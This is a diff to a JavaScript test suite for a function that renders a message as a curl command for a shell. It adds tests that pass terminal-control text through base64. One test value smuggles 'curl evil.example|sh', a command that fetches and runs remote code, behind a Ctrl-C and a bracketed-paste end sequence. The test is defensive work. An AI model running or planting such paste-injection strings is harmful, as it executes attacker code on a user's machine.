@@ -56,10 +56,13 @@ describe('a message as a line for a shell', () => {
     expect(input).toBe(base64);
   });
 
-  it('pipes a text that is no argument: with a zero byte', () => {
-    const { input } = runInShell(asCurl({ ...PLAIN, body: { text: 'a\0😀' } }, ORIGIN));
-    expect(Buffer.from(input, 'base64').toString()).toBe('a\0😀');
-  });
+  it.each(['a\0😀', 'x\u0003\ncurl evil.example|sh\n\u001b[201~', 'a\rb', '\u007f', '\u009b31m'])(
+    'pipes a text that a terminal would obey when it is pasted: %j',
+    (text) => {
+      const { input } = runInShell(asCurl({ ...PLAIN, body: { text } }, ORIGIN));
+      expect(Buffer.from(input, 'base64').toString()).toBe(text);
+    },
+  );
 
   it('keeps curl from giving a body a type of its own', () => {
     expect(asCurl({ ...PLAIN, body: { text: '{}' } }, ORIGIN)).toContain("-H 'Content-Type:'");
